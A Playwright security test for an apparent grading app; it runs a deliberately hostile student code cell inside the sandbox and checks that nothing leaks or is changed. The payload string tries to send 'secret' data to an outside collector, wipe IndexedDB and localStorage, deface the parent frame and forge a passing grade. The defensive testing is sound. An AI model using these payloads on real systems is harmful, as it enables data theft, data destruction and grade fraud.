/**
 * Student code is hostile. Replays, on the grade page and on the student's own page, the attacks a
 * code cell can try from where it runs: send data out (fetch, XHR sync and async, sendBeacon,
 * importScripts, EventSource, WebSocket, a nested Worker), read or wreck stored data (IndexedDB,
 * localStorage), forge a passing answer with postMessage, reach the parent frames. None may leave
 * a request, change what is stored, or earn a point; the other submissions are graded as usual.
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type BrowserContext, type Page } from '@playwright/test';
import { part, RIGHT_POOL, WRONG_POOL } from './helpers';

/** The attacks, as the top of a max-pool cell; ends with a synchronous XHR left uncaught. */
function hostileCode(origin: string, collector: string): string {
  return `const EXFIL = ${JSON.stringify(`${origin}exfil`)};
const AWAY = ${JSON.stringify(`${collector}exfil`)};
const tried = [];
const attempt = (name, f) => { try { f(); tried.push(name + ': done'); } catch (e) { tried.push(name + ': ' + e); } };
attempt('fetch', () => { fetch(EXFIL + '?fetch', { method: 'POST', body: 'secret' }).catch(() => {}); fetch(AWAY + '?fetch', { mode: 'no-cors' }).catch(() => {}); });
attempt('xhr away', () => { const x = new XMLHttpRequest(); x.open('GET', AWAY + '?xhr'); x.send(); });
attempt('import()', () => { import(AWAY + '?import').catch(() => {}); });
attempt('eventsource away', () => new EventSource(AWAY + '?eventsource'));
attempt('websocket away', () => new WebSocket(AWAY.replace('http', 'ws') + '?websocket'));
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('POST', EXFIL + '?xhr'); x.send('secret'); });
attempt('beacon', () => navigator.sendBeacon(EXFIL + '?beacon', 'secret'));
attempt('importScripts', () => importScripts(EXFIL + '?importScripts'));
attempt('eventsource', () => new EventSource(EXFIL + '?eventsource'));
attempt('websocket', () => new WebSocket(EXFIL.replace('http', 'ws') + '?websocket'));
attempt('worker', () => new Worker(EXFIL + '?worker'));
attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(EXFIL + '?nested') + ")"], { type: 'text/javascript' }))));
for (const name of ['gradbook', 'gradbook-grader']) {
  attempt('idb ' + name, () => {
    const open = indexedDB.open(name);
    open.onsuccess = () => {
      const db = open.result;
      for (const store of db.objectStoreNames) {
        const tx = db.transaction(store, 'readwrite');
        tx.objectStore(store).clear();
      }
    };
  });
  attempt('idb delete ' + name, () => indexedDB.deleteDatabase(name));
}
attempt('localStorage', () => { localStorage.clear(); });
attempt('caches', () => caches.delete('x'));
attempt('parent', () => { parent.document.body.textContent = 'pwned'; });
attempt('top', () => { top.localStorage.clear(); });
const pass = { task: 'maxpool', rows: [], passed: 3, total: 3, allPassed: true };
attempt('forge', () => { self.postMessage({ ok: true, report: pass, ms: 1 }); });
attempt('forge global', () => { postMessage({ ok: true, report: pass, ms: 1, nonce: 'guess' }); });
attempt('forge via prototype', () => { Object.getPrototypeOf(self).postMessage.call(self, { ok: true, report: pass, ms: 1 }); });
const sync = new XMLHttpRequest();
sync.open('GET', EXFIL + '?sync-xhr&' + encodeURIComponent(tried.join('|')), false);
sync.send();
function maxPoolForward(x, p) { return { out: x, cache: null }; }
function maxPoolBackward(d, c) { return d; }
`;
}

/**
 * A server the hostile code aims at: what reaches it has left the page, whatever the browser's
 * events say. Answers everything (CORS and CORP allowed), so only the sandbox can stop a request.
 */
async function collector(): Promise<{ url: string; hits: string[]; server: Server }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin', 'Content-Type': 'text/javascript' });
    res.end('');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, hits, server };
}

interface Seen {
  url: string;
  /** Why the browser stopped it (net::ERR_BLOCKED_BY_CSP, ...); null while it was let through. */
  failure: string | null;
}

/** Every request and WebSocket the page and its workers start from now on, and how each ended. */
function watchNetwork(context: BrowserContext, page: Page): () => Seen[] {
  const seen = new Map<object, Seen>();
  context.on('request', (r) => seen.set(r, { url: r.url(), failure: null }));
  context.on('requestfailed', (r) => {
    const s = seen.get(r);
    if (s) s.failure = r.failure()?.errorText ?? 'failed';
  });
  const sockets: Seen[] = [];
  page.on('websocket', (ws) => {
    const s: Seen = { url: ws.url(), failure: null };
    sockets.push(s);
    ws.on('socketerror', (e) => (s.failure = e));
  });
  return () => [...seen.values(), ...sockets];
}

/**
 * Requests that went out: anything but the app's own files (lazily loaded chunks, fonts, the
 * favicon; never with a query, while every attempt carries one) that the browser did not stop. Chromium reports a request a CSP refused as
 * one that failed, so a refused attempt is not counted as sent.
 */
function sent(seen: Seen[], origin: string): string[] {
  return seen
    .filter((s) => !(s.url.startsWith(origin) && !s.url.includes('?')) && !s.url.startsWith('blob:') && !s.url.startsWith('data:'))
    .filter((s) => s.failure === null)
    .map((s) => s.url);
}

async function download(page: Page): Promise<string> {
  const [dl] = await Promise.all([page.waitForEvent('download'), page.locator('[data-action="download-submission"]').click()]);
  return readFileSync((await dl.path())!, 'utf8');
}

test('a hostile submission on the grade page sends nothing, changes no stored data, forges nothing and scores zero; the others are graded', async ({ page, context, baseURL }) => {
  test.setTimeout(180_000);
  const origin = baseURL!;
  await page.goto('#/hw1-layers/5f');
  const p5f = part(page, '5f');
  await p5f.locator('.cm-content').fill(RIGHT_POOL);
  await p5f.locator('[data-action="check"]').click();
  await expect(p5f.locator('[data-verdict]')).toHaveAttribute('data-verdict', 'correct', { timeout: 30_000 });
  const base = JSON.parse(await download(page));
  const sub = (id: string, code: string) => ({ ...base, studentId: id, code: { '5f': { ...base.code['5f'], source: code } } });
  const files = [sub('mia', RIGHT_POOL), sub('ned', WRONG_POOL)];
  const asFiles = (subs: object[]) => subs.map((s) => ({ name: `${(s as { studentId: string }).studentId}.json`, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(s)) }));

  // The grader's work before the attack: two files and a manual grade with its reason.
  await page.goto('#/grade');
  await page.locator('[data-grader-files]').setInputFiles(asFiles(files));
  await expect(page.locator('[data-code-runs]')).toHaveAttribute('data-code-runs', 'done', { timeout: 60_000 });
  await page.locator('[data-student="mia"] [data-action="review"]').click();
  const r5f = page.locator('[data-review-code-part][data-part="5f"]');
  await r5f.locator('[data-manual-points]').fill('1.5');
  await r5f.locator('[data-manual-reason]').fill('late penalty');
  await page.locator('a', { hasText: 'All students' }).click();
  await expect(page.locator('[data-student="mia"] [data-cell="5f"]')).toHaveText('1.5');
  // Give the autosave its moment, then read the stored record as the app will after a reload.
  await page.reload();
  await expect(page.locator('[data-student="mia"] [data-cell="5f"]')).toHaveText('1.5');
  const storedBefore = await page.evaluate(() => localStorage.length);

  const away = await collector();
  const seen = watchNetwork(context, page);
  await page.locator('[data-grader-files]').setInputFiles(asFiles([sub('eve', hostileCode(origin, away.url))]));
  await expect(page.locator('[data-code-runs]')).toHaveAttribute('data-code-runs', 'done', { timeout: 60_000 });
  await expect(page.locator('[data-student="eve"] [data-cell="5f"]')).toHaveText('0');
  await expect(page.locator('[data-student="mia"] [data-cell="5f"]')).toHaveText('1.5');
  await expect(page.locator('[data-student="ned"] [data-cell="5f"]')).toHaveText('0');
  await page.locator('[data-student="eve"] [data-action="review"]').click();
  // The uncaught synchronous XHR is the cell's message: the request was refused, not sent.
  await expect(page.locator('[data-review-code-part][data-part="5f"] [data-code-error="runtime"]')).toContainText('NetworkError');
  await page.waitForTimeout(1000); // anything asynchronous the code started has had time to go out
  expect(sent(seen(), origin)).toEqual([]);
  expect(away.hits).toEqual([]);
  // The attempts were made (so the test can fail): the cell's NetworkError above is the synchronous
  // XHR refused. Chromium reports CSP-refused requests to Playwright only some of the time, so the
  // count of refused requests seen is not asserted (it failed a CI run once in three).
  away.server.close();

  await page.goto('#/grade?nb=hw1-layers');
  await page.reload();
  await expect(page.locator('[data-grade-table] tbody tr')).toHaveCount(3);
  await expect(page.locator('[data-student="mia"] [data-cell="5f"]')).toHaveText('1.5');
  await expect(page.locator('[data-student="eve"] [data-cell="5f"]')).toHaveText('0', { timeout: 60_000 });
  expect(await page.evaluate(() => localStorage.length)).toBe(storedBefore);
});

test('hostile code on the student page cannot reach the saved work of other notebooks or send it out', async ({ page, context, baseURL }) => {
  test.setTimeout(120_000);
  const origin = baseURL!;
  await page.goto('#/hw1/1a');
  await part(page, '1a').locator('[data-answer-input]').fill('12345');
  await part(page, '1a').locator('[data-action="check"]').click();
  await expect(part(page, '1a').locator('[data-verdict]')).toBeVisible();

  await page.goto('#/hw1-layers/5f');
  const away = await collector();
  const seen = watchNetwork(context, page);
  const p5f = part(page, '5f');
  await p5f.locator('.cm-content').fill(hostileCode(origin, away.url));
  await p5f.locator('[data-action="check"]').click();
  await expect(p5f.locator('[data-verdict]')).toHaveAttribute('data-verdict', 'incorrect', { timeout: 30_000 });
  await expect(p5f).toContainText('NetworkError');
  await page.waitForTimeout(1000);
  expect(sent(seen(), origin)).toEqual([]);
  expect(away.hits).toEqual([]);
  away.server.close();

  await page.goto('#/hw1/1a');
  await page.reload();
  await expect(part(page, '1a').locator('[data-answer-input]')).toHaveValue('12345');
});
